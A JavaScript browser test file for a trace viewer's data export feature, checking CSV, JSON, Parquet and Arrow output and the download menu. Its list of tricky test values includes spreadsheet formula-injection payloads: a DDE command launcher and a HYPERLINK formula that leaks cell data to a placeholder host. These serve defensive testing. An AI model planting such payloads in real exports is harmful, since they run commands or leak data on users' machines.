// Results as files: the real engine and the real writer of the built page, what they write read back, and the menu on the page.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { test } from 'node:test';
import { tableFromIPC } from 'apache-arrow';
import { rowsOf } from './engine_harness.mjs';
import { assertNoComplaints, assertNoForeignRequests, idle, repoPath, useSite } from './lib.mjs';

/** @typedef {import('./lib.mjs').Page} Page */

const site = useSite();
const sample = JSON.parse(fs.readFileSync(repoPath('tests/fixtures/showcase_expected.json'), 'utf8'));
const LARGEST = sample.largest.trace_id;

/**
 * Runs a statement in a database of its own and writes its rows as a file, as the page does: piece by piece, each acknowledged. Then, if
 * asked, reads a Parquet file with the page's own reader.
 * @param {Page} page
 * @param {string} sql
 * @param {'csv' | 'csv-bom' | 'json' | 'parquet' | 'arrow'} format `arrow` is the engine's own stream
 * @returns {Promise<{file: Buffer, rows: number, back?: Record<string, unknown>[]}>}
 */
async function exported(page, sql, format) {
  const { base64, ipc, rows } = await page.evaluate(async ([text, kind]) => {
    const asset = (/** @type {string} */ name) => new URL(document.querySelector(`meta[name="${name}"]`)?.getAttribute('content') ?? '', document.baseURI).href;
    /** @param {string} url */
    const start = url => {
      const worker = new Worker(url);
      let nextId = 1;
      return {
        worker,
        /** @param {Record<string, unknown>} request @param {Transferable[]} [transfer] @param {(reply: any) => void} [onChunk] @returns {Promise<any>} */
        ask: (request, transfer = [], onChunk = () => {}) => new Promise((resolve, reject) => {
          const id = nextId++;
          worker.addEventListener('error', reject);
          worker.addEventListener('message', ({ data }) => {
            if (data.id !== id) return;
            if (data.kind === 'chunk') onChunk(data);
            else if (data.kind === 'error') reject(new Error(data.message));
            else if (data.kind !== 'progress') resolve(data);
          });
          worker.postMessage({ id, ...request }, transfer);
        }),
      };
    };
    const base64Of = async (/** @type {Blob} */ blob) => {
      const bytes = new Uint8Array(await blob.arrayBuffer());
      let binary = '';
      for (let at = 0; at < bytes.length; at += 32_768) binary += String.fromCharCode(...bytes.subarray(at, at + 32_768));
      return btoa(binary);
    };
    const engine = start(`${asset('spandeck-engine')}engine-worker.js`);
    const writer = start(asset('spandeck-importer'));
    await engine.ask({ op: 'boot', wasmUrl: `${asset('spandeck-engine')}duckdb-eh.wasm.gz` });
    /** @type {BlobPart[]} */
    const parts = [];
    let done = Promise.resolve();
    let written = 0;
    const keep = (/** @type {any} */ reply) => {
      written = reply.rows;
      if (reply.part) parts.push(reply.part);
    };
    await engine.ask({ op: 'query', sql: text, ahead: 100_000 }, [], ({ id, bytes }) => {
      const length = bytes.byteLength;
      done = done.then(async () => {
        if (kind === 'arrow') parts.push(bytes);
        else keep(await writer.ask({ op: 'write', format: kind, bytes }, [bytes]));
        engine.worker.postMessage({ id: 0, op: 'taken', target: id, bytes: length });
      });
    });
    await done;
    if (kind !== 'arrow') keep(await writer.ask({ op: 'finish', format: kind }));
    const file = new Blob(parts);
    let back = null;
    if (kind === 'parquet') {
      await writer.ask({ op: 'open', files: [{ name: 'out.parquet', file }] });
      back = await base64Of(new Blob([(await writer.ask({ op: 'next' })).bytes]));
    }
    engine.worker.terminate();
    writer.worker.terminate();
    return { base64: await base64Of(file), ipc: back, rows: written };
  }, /** @type {const} */ ([sql, format]));
  return { file: Buffer.from(base64, 'base64'), rows, back: ipc === null ? undefined : rowsOf(ipc) };
}

/**
 * The rows of a file, strictly as RFC 4180 says; `null` is an empty cell without quotes.
 * @param {string} text
 * @returns {(string | null)[][]}
 */
function parseCsv(text) {
  const rows = [];
  let at = 0;
  while (at < text.length) {
    /** @type {(string | null)[]} */
    const row = [];
    for (;;) {
      const cell = text[at] === '"' ? /"((?:[^"]|"")*)"/y : /([^",\r\n]*)/y;
      cell.lastIndex = at;
      const found = cell.exec(text);
      assert.ok(found, `a cell at ${at}`);
      at = cell.lastIndex;
      row.push(text[found.index] === '"' ? found[1].replaceAll('""', '"') : found[1] || null);
      if (text[at] !== ',') break;
      at += 1;
    }
    assert.equal(text.slice(at, at + 2), '\r\n', `the end of a row at ${at}`);
    at += 2;
    rows.push(row);
  }
  return rows;
}

const NASTY = [
  'plain', '', null, 'a,b', 'say "hello"', '"', '""', 'one\ntwo', 'one\r\ntwo', '\r', ' before', 'behind ', 'tab\there', "it's", '\\ \\n', '\u0001\u001f\u007f',
  'null', 'NULL', '🦆 zwölf שלום', '\u202eevil.exe', '\u2028\u2029', '<script>alert(1)</script>', '{"json": [1, "x"]}',
  '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\n=1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', '＝1', '＋1', '－1', '＠x', '−1', 'a=1',
  'x'.repeat(100_000),
];
const IS_FORMULA = /^[^\S\t\r]*[=+\-@\t\r＝＋－＠]/;

/** A text as SQL; the parser ends a statement at other spellings of a line's end. @param {string | null} text */
const literal = text => text === null ? 'NULL' : `'${text.replaceAll("'", "''")}'`;

test('a table of nasty values is the same in every format', async () => {
  const opened = await site.openPage({ ownWorkers: true });
  const numbers = NASTY.map((_, row) => [-(2n ** 63n) + 1n + BigInt(row), row % 3 === 0 ? null : -row / 8, row % 2 === 0]);
  const values = NASTY.map((text, row) => `(${row}, ${literal(text)}, ${numbers[row][0]}::BIGINT, ${numbers[row][1] ?? 'NULL'}::DOUBLE, ${numbers[row][2]}, [${literal(text)}])`);
  const sql = `SELECT * FROM (VALUES ${values.join(', ')}) AS t(row, "=text, ""quoted""", big, real, yes, list) ORDER BY row`;
  const texts = 1;

  const csv = await exported(opened.page, sql, 'csv');
  assert.equal(csv.rows, NASTY.length);
  const [head, ...rows] = parseCsv(csv.file.toString('utf8'));
  assert.deepEqual(head, ['row', '\'=text, "quoted"', 'big', 'real', 'yes', 'list']);
  assert.deepEqual(rows.map(row => row[texts]), NASTY.map(text => text !== null && IS_FORMULA.test(text) ? `'${text}` : text));
  assert.deepEqual(rows.map(row => [BigInt(row[2] ?? 0), row[3] === null ? null : Number(row[3]), row[4] === 'true']), numbers);
  assert.deepEqual(rows.map(row => JSON.parse(row[5] ?? '')[0]), NASTY);
  const marked = await exported(opened.page, sql, 'csv-bom');
  assert.ok(marked.file.equals(Buffer.concat([Buffer.from('\ufeff'), csv.file])));

  const json = await exported(opened.page, sql, 'json');
  const text = json.file.toString('utf8');
  const objects = JSON.parse(text);
  assert.equal(text.split('\n').length, NASTY.length + 3, 'one line a row');
  assert.deepEqual(objects.map((/** @type {any} */ row) => [row['=text, "quoted"'], row.real, row.yes, row.list[0]]), NASTY.map((value, row) => [value, numbers[row][1], numbers[row][2], value]));
  assert.deepEqual([...text.matchAll(/"big":(-?\d+),/g)].map(([, digits]) => BigInt(digits)), numbers.map(([big]) => big));

  const parquet = await exported(opened.page, sql, 'parquet');
  assert.deepEqual(
    parquet.back?.map(row => [row.row, row['=text, "quoted"'], row.big, row.real, row.yes, JSON.parse(String(row.list))[0]]),
    NASTY.map((value, row) => [row, value, ...numbers[row], value]),
  );
  assertNoForeignRequests(opened);
  assertNoComplaints(opened);
});

test('many batches come in order, and an answer without rows is a file too', async () => {
  const { page } = await site.openPage({ ownWorkers: true });
  const sql = 'SELECT i, repeat(\'x\', i % 50) AS text FROM range(50000) AS t(i)';
  const csv = await exported(page, sql, 'csv');
  const expected = Array.from({ length: 50_000 }, (_, i) => [String(i), 'x'.repeat(i % 50)]);
  assert.deepEqual(parseCsv(csv.file.toString('utf8')).slice(1), expected);
  assert.equal(csv.rows, 50_000);
  const parquet = await exported(page, `${sql} LIMIT 0`, 'parquet');
  assert.deepEqual([parquet.rows, parquet.back], [0, []]);
  assert.equal((await exported(page, `${sql} LIMIT 0`, 'json')).file.toString(), '[]\n');
});

test('the fixture of all types is what the engine sends', async () => {
  const { page } = await site.openPage({ ownWorkers: true });
  const stored = (/** @type {string} */ name) => fs.readFileSync(repoPath('tests/fixtures', name));
  const { file } = await exported(page, stored('export_types.sql').toString(), 'arrow');
  // Not byte by byte: what lies below a NULL is whatever the engine's memory held. The values are compared as text.
  assert.equal(file.length, stored('export_types.arrows').length, 'export_types.arrows');
  const schema = (/** @type {Buffer} */ stream) => tableFromIPC(stream).schema.fields.map(String);
  assert.deepEqual(schema(file), schema(stored('export_types.arrows')), 'export_types.arrows');
  const texts = await exported(page, 'SELECT COLUMNS(*)::VARCHAR FROM test_all_types()', 'json');
  assert.deepEqual(JSON.parse(texts.file.toString()), JSON.parse(stored('export_types.json').toString()), 'export_types.json');
});

/** @param {Page} page @param {string} format */
async function saveAs(page, format) {
  await page.getByRole('button', { name: 'Download this trace' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('menuitem', { name: format, exact: true }).click()]);
  await idle(page);
  return { name: download.suggestedFilename(), text: fs.readFileSync(await download.path(), 'utf8') };
}

/** The sample's largest trace. */
async function openTrace() {
  const opened = await site.openPage({ hash: `#/timeline?v=1&sample=showcase&trace=${LARGEST}` });
  await opened.page.getByTestId('waterfall').waitFor();
  await idle(opened.page);
  return opened;
}

const EXPECTED = sample.largest.spans.map((/** @type {any} */ span) => [span.span_id, span.start_ns, span.duration_ns]).sort();

test('a trace is saved as CSV and as JSON, with and without the mark for Excel', async () => {
  const opened = await openTrace();
  const { page } = opened;
  const csv = await saveAs(page, 'CSV');
  assert.equal(csv.name, `trace-${LARGEST}.csv`);
  const [head, ...rows] = parseCsv(csv.text);
  const cell = (/** @type {(string | null)[]} */ row, /** @type {string} */ name) => row[head.indexOf(name)] ?? '';
  const duration = (/** @type {string} */ start, /** @type {string} */ end) => String(BigInt(end) - BigInt(start));
  assert.deepEqual(rows.map(row => [cell(row, 'span_id'), cell(row, 'start_time'), duration(cell(row, 'start_time'), cell(row, 'end_time'))]).sort(), EXPECTED);

  const json = await saveAs(page, 'JSON');
  assert.equal(json.name, `trace-${LARGEST}.json`);
  /** @type {Record<string, unknown>[]} */
  const objects = JSON.parse(json.text.replaceAll(/"(start_time|end_time)":(\d+)/g, '"$1":"$2"'));
  assert.deepEqual(objects.map(row => [row.span_id, row.start_time, duration(String(row.start_time), String(row.end_time))]).sort(), EXPECTED);
  assert.deepEqual(objects.map(row => row.attributes), rows.map(row => cell(row, 'attributes')), 'payload');

  const button = page.getByRole('button', { name: 'Download this trace' });
  const check = page.getByRole('menuitemcheckbox', { name: /Excel/ });
  await button.click();
  assert.equal(await check.getAttribute('aria-checked'), 'false');
  await check.click();
  assert.equal(await check.getAttribute('aria-checked'), 'true', 'the menu stays open');
  await page.keyboard.press('Escape');
  await page.reload();
  await page.getByTestId('waterfall').waitFor();
  await idle(page);
  await button.click();
  assert.equal(await check.getAttribute('aria-checked'), 'true', 'and it is remembered');
  await page.keyboard.press('Escape');
  assert.equal((await saveAs(page, 'CSV')).text, `\ufeff${csv.text}`);
  assertNoComplaints(opened);
});

/**
 * Puts another program in the place of the writer.
 * @param {Page} page
 * @param {string} program
 */
const replaceWriter = (page, program) => page.route(/\/importer[^/]*\.js$/, route => route.fulfill({ contentType: 'text/javascript', body: program }));

test('an export under way tells its rows, goes on when another trace is opened, and can be cancelled', async () => {
  const { page } = await openTrace();
  // Takes two pieces, then nothing more.
  await replaceWriter(page, 'let taken = 0; onmessage = ({ data }) => { taken += 1; if (taken <= 2) postMessage({ id: data.id, kind: "written", rows: 312000 }); };');
  const before = page.workers().length;
  await page.getByRole('button', { name: 'Download this trace' }).click();
  await page.getByRole('menuitem', { name: 'CSV', exact: true }).click();
  const progress = page.getByTestId('export-progress');
  await progress.and(page.locator('[data-rows="312000"]')).waitFor();
  assert.match(await progress.innerText(), /312,000 rows/);
  assert.equal(await page.evaluate(() => document.documentElement.dataset.busy), 'true');
  assert.equal(page.workers().length, before + 1);

  await page.getByRole('button', { name: 'Download this trace' }).click();
  assert.equal(await page.getByRole('menuitem', { name: 'JSON', exact: true }).isDisabled(), true, 'one at a time');
  await page.keyboard.press('Escape');
  await page.getByTestId('trace-list').locator('[data-trace-id]').nth(1).click();
  await page.getByTestId('waterfall').waitFor();
  await page.locator('#download-cancel').click();
  await idle(page);
  assert.equal(await progress.count(), 0);
  assert.equal(await page.getByTestId('export-error').count(), 0);
  assert.equal(page.workers().length, before, 'the writer has ended');
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'download');
});

test('an export that fails says why', async () => {
  const { page } = await openTrace();
  await replaceWriter(page, 'onmessage = ({ data }) => postMessage({ id: data.id, kind: "error", code: "export-write", message: "The file could not be written: no ink." });');
  await page.getByRole('button', { name: 'Download this trace' }).click();
  await page.getByRole('menuitem', { name: 'Parquet', exact: true }).click();
  const error = page.getByTestId('export-error');
  await error.waitFor();
  assert.equal(await error.innerText(), 'Nothing was saved. The file could not be written: no ink.');
  await idle(page);
  await page.locator('.export-e').getByRole('button', { name: 'Close' }).click();
  await idle(page);
  assert.equal(await error.count(), 0);
  await page.unroute(/\/importer[^/]*\.js$/);
  assert.match((await saveAs(page, 'JSON')).text, /^\[\n\{"trace_id":/);
});
